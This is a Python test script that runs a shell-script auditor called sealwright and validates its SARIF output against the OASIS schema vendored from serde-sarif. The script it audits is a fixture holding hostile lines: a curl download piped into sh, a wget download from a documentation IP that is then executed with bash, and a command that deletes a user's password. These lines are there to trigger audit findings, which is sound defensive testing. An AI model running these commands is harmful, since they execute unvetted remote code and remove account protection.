#!/usr/bin/env python3
"""Holds the SARIF of an audit against the schema of OASIS: tests/interop/sarif.py SEALWRIGHT WORK

The schema comes out of a released package that carries it, at a pinned version. Without cargo, its registry, or python's jsonschema the test says so and exits with 77.
"""

import json
import pathlib
import subprocess
import sys

PACKAGE = "serde-sarif"
VERSION = "0.8.0"
SCRIPT = """#!/bin/sh
set -e
curl -fsSL https://example.org/i.sh | sh
passwd -d bob
T=$(mktemp)
wget -qO "$T" http://203.0.113.7/x && bash "$T"
if true; then
"""


def skip(why):
    print(f"skipped: {why}")
    sys.exit(77)


def schema_in(work):
    crate = work / "schema"
    (crate / "src").mkdir(parents=True, exist_ok=True)
    (crate / "src" / "lib.rs").write_text("")
    (crate / "Cargo.toml").write_text(
        '[package]\nname = "schema"\nversion = "0.0.0"\n'
        f'[workspace]\n[dependencies]\n{PACKAGE} = "={VERSION}"\n'
    )
    try:
        subprocess.run(
            ["cargo", "vendor", "--quiet", "vendor"],
            cwd=crate,
            check=True,
            timeout=200,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
        )
    except (OSError, subprocess.SubprocessError) as e:
        skip(f"cargo cannot fetch {PACKAGE}: {e}")
    return json.loads((crate / "vendor" / PACKAGE / "src" / "schema.json").read_text())


def audit(sealwright, work, *flags):
    script = work / "s.sh"
    script.write_text(SCRIPT)
    made = subprocess.run(
        [sealwright, "audit", "--script", "s.sh", "--format", "sarif", *flags],
        cwd=work,
        stdout=subprocess.PIPE,
        check=False,
    )
    assert made.returncode in (0, 1), made.returncode
    return json.loads(made.stdout)


def main():
    sealwright, work = sys.argv[1], pathlib.Path(sys.argv[2])
    try:
        import jsonschema
    except ImportError:
        skip("python has no jsonschema")
    work.mkdir(parents=True, exist_ok=True)
    schema = schema_in(work)
    validator = jsonschema.validators.validator_for(schema)(schema)
    waive = ["--waive", "ACC002", "--reason", "r", "--owner", "o", "--expires", "2030-01-02"]
    waivers = work / "w.hcl"
    waivers.unlink(missing_ok=True)
    now = ["--now", "2030-01-01"]
    documents = [
        audit(sealwright, work, "--write-waivers", str(waivers), *waive, *now),
        audit(sealwright, work, "--policy", str(waivers), *now),
        audit(sealwright, work, "--write-baseline", str(work / "b.json")),
        audit(sealwright, work, "--baseline", str(work / "b.json"), "--profile", "aws-marketplace"),
    ]
    wrong = 0
    for i, document in enumerate(documents):
        for e in validator.iter_errors(document):
            wrong += 1
            print(f"document {i}: {'/'.join(map(str, e.absolute_path))}: {e.message[:300]}")
    results = sum(len(d["runs"][0]["results"]) for d in documents)
    print(f"{len(documents)} documents, {results} results, {wrong} wrong")
    assert results > 0
    sys.exit(1 if wrong else 0)


main()
